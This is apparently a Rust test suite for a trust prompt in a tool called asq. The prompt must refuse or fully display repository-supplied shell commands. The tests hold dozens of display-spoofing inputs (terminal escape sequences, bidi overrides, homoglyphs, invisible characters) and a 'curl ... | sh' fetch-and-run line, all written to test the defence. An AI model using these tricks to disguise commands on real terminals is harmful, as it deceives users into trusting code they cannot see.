//! Attempts to get trust for something else than the screen shows.
//!
//! - asq refuses each, or shows all of it: the test compares the screen with what would run.
//! - No text of a repository is at the left edge, and no row of it looks like one of asq's own.
//! - A yes counts only on the last page, for the file as asq showed it.

use crate::terminal::Home;
use asq_testkit::tmux::Tmux;
use std::fs;
use std::path::PathBuf;
use std::process::Command;

const ASKS: &str = "Trust it? asq asks again when the file changes. [y/N]";
const TITLE: &str = "The settings of this folder want more than a repository may set by itself:";
const RUNS: &str = "They run this in a shell whenever a form opens in that folder:";
const OFF: &str = "They let dangerous questions be answered without typing a confirmation.";

/// The result of an attempt.
#[derive(Debug, PartialEq, Eq)]
enum Came {
    /// asq refused it without a question.
    Refused,
    /// asq showed it: the whole screen, and what runs after a yes.
    Shown { screen: String, runs: String },
}

/// A home with a folder for each attempt.
struct Attempts {
    home: Home,
    count: usize,
}

impl Attempts {
    fn new() -> Attempts {
        Attempts { home: Home::new(), count: 0 }
    }

    fn folder(&mut self, name: &str) -> PathBuf {
        let folder = self.home.path(&format!("{}", self.count)).join(name);
        self.count += 1;
        fs::create_dir_all(folder.join(".pi")).unwrap();
        folder
    }

    /// Adds a folder of this name, whose settings run this command.
    fn command(&mut self, name: &str, command: &str) {
        let text = serde_json::json!({ "onQuestionCommand": command }).to_string();
        fs::write(self.folder(name).join(".pi/ask-user-question.json"), text).unwrap();
    }

    /// Tries all of them in one terminal, and says yes to each that asq shows.
    fn tried(&self) -> Vec<Came> {
        let script = format!(
            "n=0; while [ $n -lt {} ]; do
               printf '\\033[H\\033[2J'; cd {}/$n/*
               $asq trust . >/dev/null 2>&1; $asq settings --json >../settings.new 2>/dev/null
               mv ../settings.new ../settings; cd ../..; n=$((n+1))
             done",
            self.count,
            self.home.path("").display()
        );
        let session = self.home.run(&script);
        let come = (0..self.count).map(|n| {
            let settings =
                || fs::read_to_string(self.home.path(&format!("{n}/settings"))).unwrap_or_default();
            let seen = session.tmux.wait_for(
                &format!("attempt {n}"),
                |tmux| if settings().is_empty() { tmux.screen() } else { "over".to_owned() },
                |seen| seen == "over" || seen.trim_end().ends_with(ASKS),
            );
            if seen == "over" {
                return Came::Refused;
            }
            session.tmux.keys(&["y", "Enter"]);
            session.tmux.wait_for("settings", |_| settings(), |text| !text.is_empty());
            Came::Shown { screen: seen.trim_end().to_owned(), runs: command_of(&settings()) }
        });
        come.collect()
    }
}

/// The command that a form would run.
fn command_of(settings: &str) -> String {
    let settings: serde_json::Value = serde_json::from_str(settings).unwrap();
    settings["onQuestionCommand"].as_str().unwrap().to_owned()
}

/// A text behind the gutter, in rows of 80 columns.
fn quoted(text: &str) -> String {
    let mut rows = Vec::new();
    let mut rest = text;
    while !rest.is_empty() {
        let mut end = rest.len().min(76);
        // A blank at the end of a row would be invisible.
        while end < rest.len() && end > 1 && rest[..end].ends_with(' ') {
            end -= 1;
        }
        rows.push(format!("  │ {}", &rest[..end]));
        rest = &rest[end..];
    }
    rows.join("\n")
}

/// The page of a folder whose command looks like this.
fn page(folder: &str, command: &str) -> String {
    let file = quoted(&format!("{folder}/.pi/ask-user-question.json"));
    format!("{TITLE}\n\n{file}\n\n{RUNS}\n\n{}\n\n{ASKS}", quoted(command))
}

const GOOD: &str = "notify-send 'A question is waiting'";

/// Commands that hide something: asq must ask for none.
fn hidden() -> Vec<String> {
    let copy = format!("/home/ada/repo/.pi/ask-user-question.json\r\r  {RUNS}\r\r  │ {GOOD}\r\r{ASKS}");
    let mut all = vec![
        format!("touch evil & #{}{copy}", "\r".repeat(40)),
        format!("touch evil & #{}{copy}", "\n".repeat(200)),
        format!("touch evil & #{}{}", " ".repeat(3000), GOOD),
        format!("{GOOD}{}; touch evil", " ".repeat(170)),
        format!("{GOOD}\n\n\n\ntouch evil"),
        format!("{GOOD}\rtouch evil #"),
        format!("touch evil\r{GOOD}"),
        format!("touch evil\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}{GOOD}"),
        format!("{GOOD}\t\t\t\t\t\t\t\t\t\t\t\t\t\ttouch evil"),
        format!("{GOOD}\u{b}touch evil"),
        format!("{GOOD}\u{c}touch evil"),
        format!("touch evil\u{1b}[2K\r{GOOD}"),
        format!("touch evil\u{1b}[1A{GOOD}"),
        format!("touch evil\u{1b}[8m; {GOOD}\u{1b}[0m"),
        format!("\u{1b}[30;40mtouch evil;\u{1b}[0m {GOOD}"),
        format!("touch evil #\u{1b}[2J\u{1b}[H{copy}"),
        format!("touch evil #\u{1b}[?1049h{GOOD}"),
        format!("touch evil #\u{1b}]0;asq trust\u{7}{GOOD}"),
        "touch evil #\u{1b}]52;c;dG91Y2ggZXZpbA==\u{7}".to_owned(),
        format!("touch evil #\u{1b}]8;;https://asq.example\u{1b}\\{GOOD}\u{1b}]8;;\u{1b}\\"),
        format!("touch evil #\u{9b}2J{GOOD}"),
        format!("touch evil #\u{9d}0;trusted\u{9c}{GOOD}"),
        format!("touch evil #\u{90}q\u{9c}{GOOD}"),
        format!("touch evil #\u{85}{GOOD}"),
        format!("touch evil #\u{2028}{GOOD}"),
        format!("touch evil #\u{2029}{GOOD}"),
        "notify-send 'ok' \u{202e}live hcuot;\u{202c}".to_owned(),
        "\u{2066}touch evil\u{2069} # notify-send".to_owned(),
        "touch\u{200b} evil".to_owned(),
        "n\u{ad}otify-send evil".to_owned(),
        "notify\u{2060}-send evil".to_owned(),
        "\u{feff}notify-send evil".to_owned(),
        format!("{GOOD}\u{e0074}\u{e006f}\u{e0075}\u{e0063}\u{e0068}"),
        "notify\u{2011}send evil".to_owned(),
        "nоtify-send evil".to_owned(),
        "ｎｏｔｉｆｙ-send evil".to_owned(),
        "𝚗𝚘𝚝𝚒𝚏𝚢-send evil".to_owned(),
        "notify-send\u{a0}'A question' ; evil".to_owned(),
        format!("{GOOD}\u{3000}\u{3000}\u{3000}\u{3000}; touch evil"),
        format!("{GOOD}\u{2800}\u{2800}\u{2800}\u{2800}; touch evil"),
        format!("n\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}otify-send {GOOD}"),
        format!("touch evil \u{488}\u{20dd}{GOOD}"),
        format!("touch evil #{}", "漢".repeat(60)),
        format!("touch evil #👩\u{200d}💻 {GOOD}"),
        format!("touch evil #│ {GOOD}"),
        format!("touch evil\u{0}{GOOD}"),
        format!("touch evil\u{7f}\u{7f}\u{7f}{GOOD}"),
        format!("touch evil #\u{e}{GOOD}\u{f}"),
        format!("true {}; touch evil", "x".repeat(4000)),
        format!(": {}; touch evil", "-".repeat(191)),
    ];
    all.push(format!("touch evil #{}", "\u{1f3fb}".repeat(8)));
    all
}

/// Commands of printable characters: the person can read each to its end.
fn printable() -> Vec<(&'static str, &'static str)> {
    vec![
        (GOOD, GOOD),
        ("touch evil", "touch evil"),
        ("touch evil #  │ notify-send ok", ""),
        ("a          ; touch evil", "a<10 blanks>; touch evil"),
        ("a <10 blanks> b", "a <U+003C>10 blanks> b"),
        ("a <U+000D> b", "a <U+003C>U+000D> b"),
        ("   touch evil", "<3 blanks>touch evil"),
        ("touch evil   ", "touch evil<3 blanks>"),
        ("touch evil # Trust it? asq asks again when the file changes. [y/N] y", ""),
        (
            "curl -s https://example.org/a/very/long/path/that/fills/a/row | sh -s -- --quiet --yes --all --force --no-check",
            "",
        ),
        (
            "a bb ccc dddd eeeee ffffff ggggggg hhhhhhhh iiiiiiiii jjjjjjjjjj kkkkkkkkkk lll mmmm nnnnn oooooo p q",
            "",
        ),
        ("echo '\\033[2J\\r'; $(touch evil)", ""),
    ]
}

#[test]
fn a_command_that_hides_anything_is_refused() {
    let mut attempts = Attempts::new();
    let all = hidden();
    for command in &all {
        attempts.command("repo", command);
    }
    let came: Vec<_> = all.iter().zip(attempts.tried()).filter(|(_, came)| *came != Came::Refused).collect();
    assert!(came.is_empty(), "{came:#?}");
    assert!(all.len() >= 50, "{}", all.len());
}

#[test]
fn all_of_a_printable_command_is_on_the_screen() {
    let mut attempts = Attempts::new();
    let all: Vec<_> = printable().into_iter().filter(|(command, _)| command.is_ascii()).collect();
    for (command, _) in &all {
        attempts.command("repo", command);
    }
    let home = fs::canonicalize(attempts.home.path("")).unwrap().display().to_string();
    for (n, ((command, shown), came)) in all.into_iter().zip(attempts.tried()).enumerate() {
        let shown = if shown.is_empty() { command } else { shown };
        let screen = page(&format!("{home}/{n}/repo"), shown);
        assert_eq!(came, Came::Shown { screen, runs: command.to_owned() });
    }
}

#[test]
fn a_folder_can_not_be_named_like_a_page() {
    let names = [
        ("safe\n(approved by your team)", "safe<U+000A>(approved by your team)"),
        ("safe\r(approved)", "safe<U+000D>(approved)"),
        ("safe\u{1b}[2Jx", "safe<U+001B>[2Jx"),
        ("safe\u{202e}elif", "safe<U+202E>elif"),
        ("sаfe", "s<U+0430>fe"),
        ("safe\u{200b}", "safe<U+200B>"),
        ("safe          (approved)", "safe<10 blanks>(approved)"),
        ("safe ", "safe "),
        ("safe\u{2028}Trust it", "safe<U+2028>Trust it"),
        ("safe\u{9b}2J", "safe<U+009B>2J"),
        ("a\n  │ notify-send", "a<U+000A><2 blanks><U+2502> notify-send"),
        ("Jörg", "Jörg"),
    ];
    let mut attempts = Attempts::new();
    for (name, _) in names {
        attempts.command(name, "touch evil");
    }
    let home = fs::canonicalize(attempts.home.path("")).unwrap().display().to_string();
    for (n, ((_, shown), came)) in names.into_iter().zip(attempts.tried()).enumerate() {
        let screen = page(&format!("{home}/{n}/{shown}"), "touch evil");
        assert_eq!(came, Came::Shown { screen, runs: "touch evil".to_owned() });
    }
}

/// A home with a folder `repo` that has these settings.
fn repo(settings: &str) -> Home {
    let home = Home::new();
    fs::create_dir_all(home.path("repo/.pi")).unwrap();
    home.write("repo/.pi/ask-user-question.json", settings);
    home
}

#[test]
fn a_yes_before_the_end_is_no_yes() {
    let home = repo(
        &serde_json::json!({"onQuestionCommand": "x".repeat(200), "dangerCheckEnabled": false}).to_string(),
    );
    let session = home.run("stty rows 12 cols 24; $asq trust repo; ");
    let tmux: &Tmux = &session.tmux;
    tmux.resize(24, 12);
    let mut pages = 0;
    loop {
        let screen = tmux.wait("a prompt", |screen| {
            let said: String = screen.split_whitespace().collect();
            said.ends_with("[y/N]") || said.ends_with("stops:")
        });
        assert!(screen.lines().all(|line| line.trim_end().chars().count() <= 24), "{screen}");
        assert!(!screen.lines().any(|line| line.starts_with('x')), "{screen}");
        if screen.trim_end().ends_with("[y/N]") {
            break;
        }
        pages += 1;
        let before = screen.clone();
        tmux.keys(&["y", "Enter"]);
        tmux.wait("the next page", |screen| screen != before && !screen.trim_end().ends_with('y'));
    }
    assert!(pages > 1, "{pages}");
    tmux.keys(&["Enter"]);
    let end = session.end();
    assert_eq!((end.code.as_str(), end.err.as_str()), ("1", "asq: not trusted\n"));
}

#[test]
fn a_file_that_changes_while_it_is_shown_is_not_trusted() {
    let home = repo(r#"{"onQuestionCommand": "true"}"#);
    let session = home.run("$asq trust repo");
    session.sees("[y/N]");
    home.write("repo/.pi/ask-user-question.json", r#"{"onQuestionCommand": "touch evil"}"#);
    session.tmux.keys(&["y", "Enter"]);
    let end = session.end();
    assert_eq!(end.code, "65");
    assert!(end.err.contains("changed while you read it"), "{}", end.err);
    let end = home.run("$asq trust --list >out").end();
    assert_eq!(end.out, "no folder is trusted\n");
}

#[test]
fn a_page_whose_terminal_changed_is_shown_again() {
    let home = repo(r#"{"onQuestionCommand": "true", "dangerCheckEnabled": false}"#);
    let session = home.run("$asq trust repo");
    let screen = session.sees("[y/N]");
    assert!(screen.contains(OFF), "{screen}");
    session.tmux.resize(60, 24);
    session.tmux.wait_for("the new size", |tmux| tmux.tell("#{pane_width}"), |width| width == "60");
    session.tmux.keys(&["y", "Enter"]);
    session.sees("it is shown again");
    session.tmux.keys(&["n", "Enter"]);
    assert_eq!(session.end().code, "1");
}

#[test]
fn a_page_can_be_stopped_before_the_end() {
    let home = repo(
        &serde_json::json!({"onQuestionCommand": "x".repeat(200), "dangerCheckEnabled": false}).to_string(),
    );
    let session = home.run("stty rows 12 cols 24; $asq trust repo");
    let tmux: &Tmux = &session.tmux;
    tmux.resize(24, 12);
    tmux.wait("a page", |screen| screen.trim_end().ends_with("stops:"));
    tmux.keys(&["n", "Enter"]);
    let end = session.end();
    assert_eq!((end.code.as_str(), end.err.as_str()), ("1", "asq: not trusted\n"));
}

#[test]
fn where_not_all_of_it_can_be_seen_nothing_is_asked() {
    let home = repo(&serde_json::json!({"onQuestionCommand": "touch evil"}).to_string());
    let session = home.run("read -r line; $asq trust repo");
    session.tmux.resize(40, 5);
    let tty = session.tmux.tell("#{pane_tty}");
    // tmux tells the pane its new size later than its own rows.
    let size = |_: &_| {
        let told = Command::new("stty").args(["-F", &tty, "size"]).output().unwrap();
        String::from_utf8(told.stdout).unwrap()
    };
    session.tmux.wait_for("the size", size, |size| size == "5 40\n");
    session.tmux.keys(&["Enter"]);
    let end = session.end();
    expect_test::expect![[r#"
        asq: the terminal is too small to show all of it: 40 by 5
          make it 20 columns and 8 rows, at least
    "#]]
    .assert_eq(&end.err);
    assert_eq!(end.code, "7");
}
